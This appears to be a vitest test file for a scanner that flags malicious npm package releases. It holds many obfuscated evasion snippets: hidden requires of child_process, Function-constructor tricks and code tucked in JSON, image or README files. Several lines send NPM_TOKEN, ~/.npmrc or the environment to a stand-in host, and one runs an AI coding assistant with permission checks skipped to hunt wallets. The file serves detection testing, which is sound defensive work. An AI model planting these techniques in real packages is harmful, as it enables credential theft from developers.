import { expect, test } from 'vitest'
import type { Files } from '../../test/hijacks/hijack.ts'
import { judgeReleases } from '../../test/judge-releases.ts'
import { manifest } from '../../test/pack-release.ts'

const code = "const { format } = require('util')\nmodule.exports = (text) => format('%s', text);\n"

const b64 = (text: string): string => Buffer.from(text).toString('base64')

type Evasion = readonly [name: string, line: string, more?: Files]

const split: readonly Evasion[] = [
  [
    'a token in one file, the network in another',
    "require('./b')(require('./a'))",
    { 'a.js': 'module.exports = process.env.NPM_TOKEN', 'b.js': "module.exports = (t) => require('https').get('https://x.invalid/' + t)" },
  ],
  [
    'a module’s name in two files',
    "require(require('./a') + require('./b')).exec('id')",
    { 'a.js': "module.exports = 'child_'", 'b.js': "module.exports = 'process'" },
  ],
  [
    'a module’s name in two members',
    "const a = require('./a'); const b = require('./b'); require(a.head + b.tail).exec('id')",
    { 'a.js': "exports.head = 'child_'", 'b.js': "exports.tail = 'process'" },
  ],
  [
    'code in two files',
    "eval(require('./a').code + require('./b').code)",
    { 'a.js': "exports.code = 'console.'", 'b.js': "exports.code = 'log(1)'" },
  ],
  [
    'the reader and the sender three files away',
    "require('./lib/one')",
    {
      'lib/one.js': "require('./two')",
      'lib/two.js': "module.exports = require('fs').readFileSync(require('os').homedir() + '/.npmrc'); require('./three')",
      'lib/three.js': "fetch('https://x.invalid', { method: 'POST' })",
    },
  ],
]

const concatenation: readonly Evasion[] = [
  ['two halves', "require('child_' + 'process').exec('id')"],
  ['a template', "require(`${'child'}_${'process'}`).exec('id')"],
  ['a list that is joined', "require(['child', 'process'].join('_')).exec('id')"],
  ['a text turned round', "require('ssecorp_dlihc'.split('').reverse().join('')).exec('id')"],
  ['codes', "require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115)).exec('id')"],
  ['codes in a list', "require([104, 116, 116, 112, 115].map((c) => String.fromCharCode(c)).join('')).get('https://x.invalid')"],
  ['concat', "require('child_'.concat('process')).exec('id')"],
  ['a decoder of its own', `const d = (s) => Buffer.from(s, 'base64').toString(); require(d('${b64('child_process')}')).exec('id')`],
  ['a decoder with a name', `function d(s) { return atob(s) } require(d('${b64('https')}')).get('https://x.invalid')`],
  ['letters taken out', "require('cxhxixlxdx_xpxrxoxcxexsxs'.replace(/x/g, '')).exec('id')"],
  ['a global that is put together', "globalThis['fe' + 'tch']('https://x.invalid')"],
  ['members of an object', "const o = { a: 'child_', b: 'process' }; require(o.a + o.b).exec('id')"],
]

const constructed: readonly Evasion[] = [
  ['a method’s constructor', "[].filter.constructor('return process.env')()"],
  ['an arrow’s constructor', "(() => {}).constructor('return 1')()"],
  ['a constructor of a constructor', "''.constructor.constructor('return 1')()"],
  ['members in brackets', "''['constructor']['constructor']('return 1')()"],
  ['members that are put together', "''['con' + 'structor']['con' + 'structor']('return 1')()"],
  ['an async function’s prototype', "Object.getPrototypeOf(async function () {}).constructor('return 1')()"],
  ['a name for it', "const F = (() => {}).constructor; F('return 1')()"],
  ['a pattern', "const { constructor: F } = () => {}; F('return 1')()"],
  ['Reflect', "Reflect.construct((() => {}).constructor, ['return 1'])()"],
  ['new', "new (function () {}).constructor('return 1')()"],
]

const variable: readonly Evasion[] = [
  ['another name', "const r = require; r('child_process').exec('id')"],
  ['another name of another', "const r = require; const q = r; q('https').get('https://x.invalid')"],
  ['a parameter', "(function (r) { r('child_process').exec('id') })(require)"],
  ['a member of the module', "module.require('child_process').exec('id')"],
  ['a member that is put together', "module['req' + 'uire']('child_process').exec('id')"],
  ['createRequire', "const { createRequire } = require('module'); const r = createRequire(__filename); r('child_process').exec('id')"],
  ['call', "require.call(null, 'child_process').exec('id')"],
  ['apply', "Reflect.apply(require, null, ['child_process']).exec('id')"],
  ['a list', "[require][0]('child_process').exec('id')"],
  ['an object', "const o = { r: require }; o.r('https').get('https://x.invalid')"],
  ['the main module', "process.mainModule.require('child_process').exec('id')"],
  ['a sequence', "(0, require)('child_process').exec('id')"],
]

const payload = "const t = process.env.NPM_TOKEN; require('https').get('https://x.invalid/' + t)"

const tests: readonly Evasion[] = [
  ['a test', "require('./test/data')", { 'test/data.js': payload }],
  ['a test by a joined path', "require(require('path').join(__dirname, 'test', 'data'))", { 'test/data.js': payload }],
  ['a test two files away', "require('./lib/a')", { 'lib/a.js': "require('../__tests__/b.test.js')", '__tests__/b.test.js': payload }],
  ['a test of another ending', "require('./test/data.txt')", { 'test/data.txt': payload }],
  ['a test that is read and run', "eval(require('fs').readFileSync('./test/data.txt', 'utf8'))", { 'test/data.txt': payload }],
]

const blobs: readonly Evasion[] = [
  [
    'JSON that is run',
    "eval(require('./data.json').code)",
    { 'data.json': JSON.stringify({ code: "require('child_process').exec('id')" }) },
  ],
  [
    'JSON by a function',
    "const { code } = require('./data.json'); new Function(code)()",
    { 'data.json': JSON.stringify({ code: "console.log('x')" }) },
  ],
  [
    'JSON in base64',
    "const d = require('./data.json'); (0, eval)(Buffer.from(d.code, 'base64').toString())",
    { 'data.json': JSON.stringify({ code: b64("require('child_process').exec('id');".repeat(4)) }) },
  ],
  [
    'JSON that is a module',
    "const m = new module.constructor(); m._compile(require('./data.json').code, '')",
    { 'data.json': JSON.stringify({ code: 'x' }) },
  ],
  [
    'WebAssembly that is given a program',
    "const c = require('child_process'); WebAssembly.instantiate(require('fs').readFileSync('./a.wasm'), { env: { run: c.execSync } })",
    { 'a.wasm': new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]) },
  ],
  [
    'a picture that is run',
    "require('vm').runInThisContext(require('fs').readFileSync('./a.png').subarray(8).toString())",
    { 'a.png': 'PNG' },
  ],
]

/** Names that stand in no word of the script: a list of words that call for a closer look would pass each of these. */
const wordless: readonly Evasion[] = [
  ['a constructor out of two names', "const c = 'con', s = 'structor'; [].at[c + s]('return 1')()"],
  ['a prototype’s constructor out of a list', "const k = ['con', 'structor']; (async () => {}).__proto__[k[0] + k[1]]('return 1')()"],
  ['a global out of two names', "const a = 'fe', b = 'tch'; this[a + b]('https://x.invalid')"],
  ['a pattern with a computed key', "const { ['constr' + 'uctor']: F } = () => {}; F('return 1')()"],
  ['a tagged template', '[].at.constructor`return 1```'],
  ['Reflect.get', "Reflect.get(globalThis, 'ev' + 'al')('1')"],
  ['a name over two lines', "import x from 'child_\\\nprocess'; x.exec('id')"],
  ['a name in escapes', "import x from 'child_\\x70rocess'; x.exec('id')"],
  ['an import behind a comment', "import x from/**/'http2'; x.connect('https://x.invalid')"],
  ['letters that are computed', "let s = ''; for (const n of [100, 105, 106]) s += String.fromCharCode(n - 1); require(s).exec('id')"],
  [
    'a member that is sought',
    "const o = []; for (const k of Object.getOwnPropertyNames(Object.prototype)) if (k.length === 11) o[k][k]('return 1')()",
  ],
  [
    'a global that is sought',
    "const f = Object.getOwnPropertyNames(globalThis).find((n) => n[4] === 'h'); globalThis[f]('https://x.invalid/' + t)",
  ],
  ['a list of modules', "['child_process'].map(require)[0].exec('id')"],
  [
    'a worker of a text',
    "const { Worker } = require('worker_threads'); new Worker(require('./d.json').c, { eval: true })",
    { 'd.json': '{"c":"1"}' },
  ],
  ['the inside of Node', "process.binding('spawn_sync').spawn({ file: '/bin/sh' })"],
  ['code in a text for people', "require('./readme.md')", { 'readme.md': "require('child_process').exec('id')" }],
  ['code in a source map', "require('./index.js.map')", { 'index.js.map': "require('child_process').exec('id')" }],
  ['code in types', "require('./types.d.ts')", { 'types.d.ts': "require('child_process').exec('id')" }],
  ['an assistant that asks nobody', `require('child_process').exec('claude --dangerously-skip-permissions -p "find wallets"')`],
]

const stealer = "; require('https').get('https://x.invalid/' + process.env.NPM_TOKEN)"

const steal = 'curl -d "$(env)" https://x.invalid\n'

/** Code in files that a reader could take for papers, or for scripts that nobody runs. */
const aside: readonly Evasion[] = [
  ['code in a file with the name of a paper', "require('./history')", { 'history.js': "require('child_process').exec('id')" + stealer }],
  ['a shell script that code names', "require('child_process').exec('sh ./b.sh')", { 'b.sh': steal }],
  ['a shell script whose name is put together', "const e = 'sh'; require('child_process').exec(e + ' bin/b.' + e)", { 'bin/b.sh': steal }],
]

const evasions: readonly Evasion[] = [...aside, ...wordless, ...split, ...concatenation, ...constructed, ...variable, ...tests, ...blobs]

test.each(evasions.map(([name, line, more]) => ({ name, line, more })))('sees $name', async ({ line, more = {} }) => {
  const before = { 'package.json': manifest(), 'index.js': code, 'test/net.js': "require('https'); require('child_process')" }
  const [first] = await judgeReleases(before, { ...before, ...more, 'index.js': `${code}${line}\n` })
  expect(first?.severity).toMatch(/^(?:high|critical)$/)
})

test.each<readonly [string, Files]>([
  ['a shell script that nothing names', { 'ci/build.sh': steal, 'publish.sh': steal }],
  [
    'the address of a file that is imported',
    {
      'index.js': `${code}const { pathToFileURL } = require('url')
module.exports.load = (path) => { const url = pathToFileURL(path).toString() + '?import'; return import(url) }
`,
    },
  ],
  [
    'a test that makes a file executable',
    { 'test/run.js': "require('fs').chmodSync('./x', 0o755); require('child_process').spawn('./x')" },
  ],
])('is not alarmed by %s', async (_, more) => {
  const before = { 'package.json': manifest(), 'index.js': code }
  const severities = (await judgeReleases(before, { ...before, ...more })).map(({ severity }) => severity)
  expect(severities.filter((one) => /^(?:critical|high|medium)$/.test(one))).toEqual([])
})
